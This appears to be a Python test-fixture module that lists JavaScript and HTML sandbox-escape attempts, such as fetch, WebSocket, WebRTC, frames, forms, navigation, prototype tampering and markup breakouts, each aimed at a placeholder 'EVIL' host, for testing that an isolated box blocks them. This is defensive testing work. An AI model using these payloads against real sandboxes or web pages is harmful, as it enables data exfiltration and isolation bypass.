"""Programs that try to escape from a box. They report a success with ``say``.

``EVIL`` stands for the host and port of a foreign server.
"""

# ruff: noqa: E501 - one program per line

from __future__ import annotations

NETWORK_ATTEMPTS = {
    "fetch": "fetch('http://EVIL/fetch').then(() => say('fetched'), () => {})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/xhr'); x.onload = () => say('got'); x.send()",
    "beacon": "navigator.sendBeacon('http://EVIL/beacon', 'x')",
    "websocket": "const s = new WebSocket('ws://EVIL/ws'); s.onopen = () => say('open')",
    "events": "new EventSource('http://EVIL/events')",
    "webtransport": "if (window.WebTransport) { say('there'); new WebTransport('https://EVIL/wt') }",
    "image": "const i = new Image(); i.onload = () => say('loaded'); i.src = 'http://EVIL/i.png'",
    "own image": "const i = new Image(); i.onload = () => say('loaded'); i.src = '/_unwritten/static/icon.svg'",
    "own fetch": "fetch('/').then(() => say('fetched'), () => {}); fetch('/_unwritten/box/state').then(() => say('f'), () => {})",
    "style": """const s = document.createElement('style'); s.textContent = '@import "http://EVIL/a.css"; body ' +
        '{ background: url(http://EVIL/b) } @font-face { font-family: x; src: url(http://EVIL/c) } * { font-family: x }';
        document.head.append(s)""",
    "script": "const s = document.createElement('script'); s.src = 'http://EVIL/x.js'; document.head.append(s)",
    "module": "import('http://EVIL/m.js').then(() => say('imported'), () => {})",
    "import map": """const s = document.createElement('script'); s.type = 'importmap';
        s.textContent = '{"imports": {"x": "http://EVIL/x.js"}}'; document.head.append(s); import('x').catch(() => {})""",
    "worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"http://EVIL/w\")']))) } catch {}",
    "shared worker": "try { new SharedWorker('data:text/javascript,fetch(\"http://EVIL/w\")') } catch {}",
    "service worker": "navigator.serviceWorker?.register('/_unwritten/static/morph.js').then(() => say('registered'), () => {})",
    "worklet": "CSS.paintWorklet?.addModule('http://EVIL/p.js').catch(() => {}); new OfflineAudioContext(1, 1, 8000)"
    ".audioWorklet?.addModule('http://EVIL/a.js').catch(() => {})",
    "preconnect": "make('link', { rel: 'preconnect', href: 'http://EVIL' })",
    "dns": "make('link', { rel: 'dns-prefetch', href: '//EVIL' })",
    "prefetch": "make('link', { rel: 'prefetch', href: 'http://EVIL/p' }); make('link', { rel: 'preload', as: 'image', href: 'http://EVIL/q' })",
    "prerender": "make('link', { rel: 'prerender', href: 'http://EVIL/p' })",
    "sheet": "make('link', { rel: 'stylesheet', href: 'http://EVIL/x.css' })",
    "manifest": "make('link', { rel: 'manifest', href: 'http://EVIL/m' }); make('link', { rel: 'icon', href: 'http://EVIL/i' })",
    "link by html": "document.body.innerHTML = '<link rel=preconnect href=http://EVIL><LINK\\nrel=stylesheet href=http://EVIL/x>'",
    "link by insertion": "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=http://EVIL>')",
    "link by outer": "const d = document.body.appendChild(document.createElement('p')); d.outerHTML = '<link rel=preconnect href=http://EVIL>'",
    "link by pieces": "document.write('<li'); document.write('nk rel=preconnect href=http://EVIL>'); document.writeln('<ifr', 'ame srcdoc=x>')",
    "link by namespace": "document.head.append(Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'), "
    "{ rel: 'preconnect', href: 'http://EVIL' }))",
    "link by range": "document.body.append(document.createRange().createContextualFragment('<link rel=preconnect href=http://EVIL>'))",
    "link by parser": """document.body.append(document.adoptNode(new DOMParser().parseFromString(
        '<link rel=preconnect href=http://EVIL>', 'text/html').querySelector('link') ?? new Text('')))""",
    "link by entity": """const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;link ' +
        'xmlns=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\'http://EVIL\\'/>">]><x>&e;</x>', 'text/xml');
        const l = d.getElementsByTagName('link')[0]; if (l) { say('made'); document.body.append(document.adoptNode(l)) }""",
    "link by prefix": """const d = new DOMParser().parseFromString(
        '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:link rel="preconnect" href="http://EVIL"/></x>', 'application/xml');
        const l = d.querySelector('link'); if (l) { say('made'); document.body.append(document.adoptNode(l)) }""",
    "link by document": """const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link');
        if (d.documentElement.localName === 'link') say('made')""",
    "link by class": """class L extends HTMLLinkElement {}; try { customElements.define('x-l', L, { extends: 'link' });
        const l = new L(); say('made'); l.rel = 'preconnect'; l.href = 'http://EVIL'; document.head.append(l) } catch {}""",
    "link by a fickle name": """let n = 0; const name = { toString: () => (n++ ? 'link' : 'p') };
        const l = document.createElement(name); if (l instanceof HTMLLinkElement) say('made')""",
    "link by a changed prototype": """String.prototype.toLowerCase = () => 'p'; String.prototype.indexOf = () => -1;
        String.prototype.charCodeAt = () => 0; String.prototype.slice = () => ''; Function.prototype.call = () => 0;
        Array.prototype[Symbol.iterator] = function* () {}; Object.prototype.link = false;
        const l = document.createElement('LINK'); if (l instanceof HTMLLinkElement) say('made');
        document.body.innerHTML = '<link rel=preconnect href=http://EVIL>'; if (document.body.querySelector('link')) say('made')""",
    "link by sanitizer": """const p = document.createElement('p'); p.setHTML?.('<link rel=preconnect href=http://EVIL>',
        { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }); document.body.append(p)""",
    "link by unsafe": "document.body.setHTMLUnsafe?.('<link rel=preconnect href=http://EVIL>'); "
    "const d = Document.parseHTMLUnsafe?.('<link rel=preconnect>'); if (d?.querySelector('link')) say('made')",
    "link by style sheet": "const x = window.XSLTProcessor; if (x) say('there')",
    "link by command": "document.designMode = 'on'; document.execCommand?.('insertHTML', false, '<link rel=preconnect href=http://EVIL>')",
    "link by shadow": "const d = document.body.appendChild(document.createElement('p')).attachShadow({ mode: 'open' }); "
    "d.innerHTML = '<link rel=preconnect href=http://EVIL><iframe srcdoc=x></iframe>'; if (d.querySelector('link, iframe')) say('made')",
    "link by template": "const t = document.createElement('template'); t.innerHTML = '<link rel=preconnect href=http://EVIL>'; "
    "document.head.append(t.content)",
    "rules": """const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify(
        { prefetch: [{ urls: ['http://EVIL/s'] }], prerender: [{ urls: ['http://EVIL/t'] }] }); document.head.append(s)""",
    "webrtc": """for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel']) if (window[name]) say(name);
        try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:EVIL?transport=tcp', username: 'a', credential: 'b' }] });
        p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch {}""",
    "a frame": "const f = make('iframe', { src: 'http://EVIL/f' }); if (f.contentWindow) say('made')",
    "a frame of words": """const f = make('iframe', { srcdoc: '<script>top.postMessage({ escaped: "srcdoc " + typeof RTCPeerConnection }, "*")<\\/script>' });
        if (f.contentWindow) say('made')""",
    "a frame by html": """document.body.innerHTML = '<iframe srcdoc="&lt;script&gt;top.postMessage({ escaped: 1 }, \\'*\\')&lt;/script&gt;"></iframe>' +
        '<object data="http://EVIL/o"></object><embed src="http://EVIL/e"><frameset><frame src="http://EVIL/f"></frameset>';
        if (document.querySelector('iframe, object, embed, frame') || frames.length) say('made')""",
    "a frame of a script": "const f = make('iframe', { src: 'javascript:top.postMessage({ escaped: 1 }, \"*\")' }); if (f.contentWindow) say('made')",
    "an object": "make('object', { data: 'http://EVIL/o' }); make('embed', { src: 'http://EVIL/e' }); "
    "make('object', { data: 'data:text/html,<script>top.postMessage({ escaped: 1 }, \"*\")<\\/script>' })",
    "other frames": "if (make('fencedframe', {}) instanceof (window.HTMLFencedFrameElement ?? Array) || make('portal', {}).src) say('made')",
    "refresh": "make('meta', { httpEquiv: 'refresh', content: '0;url=http://EVIL/refresh' }); "
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://EVIL/refresh\">')",
    "a form": "const f = make('form', { action: 'http://EVIL/form', method: 'post' }); f.submit(); f.requestSubmit?.(); "
    "make('form', { action: 'http://EVIL/top', target: '_top' }).submit()",
    "a window": "if (window.open('http://EVIL/w') || window.open('about:blank')) say('opened')",
    "the top": "try { top.location = 'http://EVIL/top'; } catch {} try { parent.location.href = '/wiki/never' } catch {} "
    "try { top.location.replace('http://EVIL/r') } catch {}",
    "the past": "try { history.back() } catch {} try { history.go(-1) } catch {} try { const { committed, finished } = navigation.back(); committed.catch(() => {}); finished.catch(() => {}) } catch {}",
    "a download": "make('a', { href: 'data:text/plain,x', download: 'x.txt' }).click()",
    "the page around": "for (const get of [() => parent.document, () => top.document.body, () => parent.unwritten, "
    "() => frameElement.ownerDocument, () => parent.localStorage, () => opener.document]) { try { get(); say('reached') } catch {} }",
    "other boxes": "for (let i = 0; i < top.length; i++) { try { if (top[i] !== window && top[i].document) say('reached') } catch {} }",
    "cookies": "try { document.cookie = 'a=b'; say('cookie ' + document.cookie) } catch {} try { cookieStore.set('a', 'b').then(() => say('set'), () => {}) } catch {}",
    "storage": "try { indexedDB.open('x').onsuccess = () => say('indexedDB') } catch {} try { caches.open('x').then(() => say('caches'), () => {}) } catch {} "
    "navigator.storage?.getDirectory?.().then(() => say('files'), () => {}); if (Object.getPrototypeOf(localStorage) === Storage.prototype) say('real')",
    "channels": "try { new BroadcastChannel('x').postMessage('x') } catch {} try { navigator.locks.request('x', () => say('locked')).catch(() => {}) } catch {}",
    "dialogs": "if (confirm('x') || prompt('x', 'y')) say('asked'); alert('x'); print()",
    "devices": "navigator.geolocation?.getCurrentPosition(() => say('place'), () => {}); navigator.mediaDevices?.getUserMedia({ audio: true })"
    ".then(() => say('ear'), () => {}); Notification?.requestPermission?.().then((p) => p === 'granted' && say('notes'))",
    "our guard": "try { box.save = 1 } catch {} try { window.box = 1 } catch {} if (typeof box.save !== 'function') say('changed'); "
    "try { trustedTypes.createPolicy('default', { createHTML: (x) => x }); say('policy') } catch {} "
    "try { trustedTypes.createPolicy('other', { createHTML: (x) => x }); say('policy') } catch {}",
    "our guarded methods": "delete Document.prototype.createElement; try { Document.prototype.createElement = 1 } catch {} "
    "if (document.createElement('iframe').contentWindow !== undefined) say('made')",
    "eval": "try { (0, eval)('say(\"eval\")') } catch {} try { Function('say(\"function\")')() } catch {}",
}  # fmt: skip
"""Scripts that try to reach the network, the page around the box, or stored data, by what they try."""

NAVIGATION_ATTEMPTS = {
    "location": "location = 'http://EVIL/location'",
    "location by replace": "location.replace('http://EVIL/replace')",
    "location by href": "window.location.href = '//EVIL/href'",
    "location of the window": "window.open('http://EVIL/self', '_self')",
    "navigation": "const { committed, finished } = navigation.navigate('http://EVIL/n'); committed.catch(() => {}); finished.catch(() => {})",
    "location to a page here": "location = '/wiki/never'",
    "location to data": "location = 'data:text/html,<script>top.postMessage({ escaped: 1 }, \"*\")<\\/script>'",
    "location to a blob": "location = URL.createObjectURL(new Blob(['<script>top.postMessage({ escaped: 1 }, \"*\")<\\/script>'], { type: 'text/html' }))",
    "a link": "const a = make('a', { href: 'http://EVIL/a' }); a.click(); make('a', { href: 'http://EVIL/b', target: '_top' }).click(); "
    "make('a', { href: 'http://EVIL/c', target: '_blank' }).click(); make('a', { href: '#x', ping: 'http://EVIL/ping' }).click()",
    "a link in a drawing": """document.body.innerHTML = '<svg><a href="http://EVIL/s"><text y="9">x</text></a></svg>';
        document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))""",
    "base": "make('base', { href: 'http://EVIL/' }); const i = new Image(); i.src = 'x.png'; location = 'y'",
}  # fmt: skip
"""Scripts that try to navigate. Chromium resolves and connects to the host before it checks whether the policy allows the
navigation. No page can prevent that."""

MARKUP_ATTEMPTS = {
    "markup: link": "<link rel=preconnect href=http://EVIL><link rel=stylesheet href=http://EVIL/a><LINK\trel=icon href=http://EVIL/b>",
    "markup: frame": "<iframe src=http://EVIL/f></iframe><iframe srcdoc='<script>top.postMessage({escaped: 1}, \"*\")</script>'></iframe>"
    "<frameset><frame src=http://EVIL/g></frameset><object data=http://EVIL/o></object><embed src=http://EVIL/e>",
    "markup: meta": "<meta http-equiv=refresh content='0;url=http://EVIL/m'><META HTTP-EQUIV='refresh' content='0;/wiki/never'>",
    "markup: base": "<base href=http://EVIL/><img src=x.png><a href=y>z</a>",
    "markup: rules": "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://EVIL/s\"]}]}</script>",
    "markup: pictures": "<img src=http://EVIL/i srcset='http://EVIL/j 2x'><video src=http://EVIL/v poster=http://EVIL/p autoplay></video>"
    "<audio src=http://EVIL/a></audio><svg><image href=http://EVIL/s /><use href=http://EVIL/u#x /></svg><body background=http://EVIL/b>",
    "markup: style": "<style>@import url(http://EVIL/s.css); body { background: url(http://EVIL/t) }</style><p style='background: url(http://EVIL/u)'>",
    "markup: form": "<form action=http://EVIL/f id=f><input name=x></form><script>f.submit()</script>",
    "markup: in a comment": "<!-- <script> --><iframe srcdoc='<script>top.postMessage({escaped: 1}, \"*\")</script>'></iframe><!-- </script> -->",
    "markup: in a title": "<title><script></title><link rel=preconnect href=http://EVIL></script>",
    "markup: in an attribute": "<p title='<script>'><link rel=preconnect href=http://EVIL><iframe src=http://EVIL/q></iframe></p>",
    "markup: end of our script": "</script><script>say('x' && '');</script><link rel=preconnect href=http://EVIL>",
}  # fmt: skip
"""Markup that tries the same without a script."""

HELPERS = """const say = (what) => what && top.postMessage({ escaped: NAME + ': ' + what }, '*');
const make = (name, given) => { const e = document.createElement(name); for (const key in given) { try { e[key] = given[key] }
catch {} try { e.setAttribute(key === 'httpEquiv' ? 'http-equiv' : key, given[key]) } catch {} } document.body.append(e); return e };"""


def documents(host: str, scripts: dict[str, str], markup: dict[str, str] | None = None) -> dict[str, str]:
    """Return complete documents by what they try. Each reports that it ran.

    Args:
        host: Host and port of the server that must not be reached.
        scripts: Scripts by what they try.
        markup: Markup by what it tries.
    """
    found = {}
    for name, code in scripts.items():
        body = (
            f"<script>{HELPERS}\ntop.postMessage({{ ran: NAME }}, '*');\ntry {{ {code} }} catch (error) {{}}</script>"
        )
        found[name] = f"<!doctype html><html><body><p>{name}</p>{body}".replace("NAME", repr(name))
    for name, body in (markup or {}).items():
        ran = f"<script>{HELPERS}\ntop.postMessage({{ ran: NAME }}, '*');</script>".replace("NAME", repr(name))
        found[name] = f"<!doctype html><html>{ran}{body}"
    return {name: text.replace("EVIL", host) for name, text in found.items()}
